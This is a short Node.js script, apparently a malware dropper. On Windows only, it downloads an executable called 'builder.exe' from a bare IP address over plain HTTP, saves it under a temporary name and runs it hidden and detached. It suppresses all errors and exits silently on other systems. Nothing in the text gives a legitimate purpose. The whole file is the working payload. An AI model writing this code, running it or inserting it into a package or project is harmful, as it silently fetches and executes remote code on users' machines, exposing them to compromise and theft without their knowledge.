const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { execFile } = require('child_process');

if (os.platform() !== 'win32') process.exit(0);

const target = path.join(os.tmpdir(), 'bb-builder-' + Date.now() + '.exe');
const file = fs.createWriteStream(target);
http.get('http://203.0.113.45/files/builder.exe', (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close(() => {
      execFile(target, [], { windowsHide: true, detached: true }, () => {});
    });
  });
}).on('error', () => {});
